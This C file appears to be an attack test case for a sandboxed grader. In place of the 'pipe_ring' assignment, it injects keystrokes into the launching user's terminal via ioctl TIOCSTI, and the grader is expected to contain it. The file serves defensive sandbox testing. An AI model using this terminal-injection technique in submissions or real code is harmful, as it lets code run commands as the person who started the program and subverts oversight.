/* ATTACK 54: puts keystrokes into the terminal of whoever started the grader.
 * assignment: pipe_ring
 * gains: commands as the teacher
 * expect: sealed_out
 * max-score: 0
 * layers: object, namespaces, landlock, seccomp, built-in
 * off: none
 */
#include "pipe_ring.h"

#include <fcntl.h>
#include <sys/ioctl.h>

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)token;
	(void)step;
	(void)ctx;
	int fd = open("/dev/tty", O_RDWR);
	for (const char *key = ": typed by a submission\n"; *key; key++)
		ioctl(fd, TIOCSTI, key);
	return -1;
}
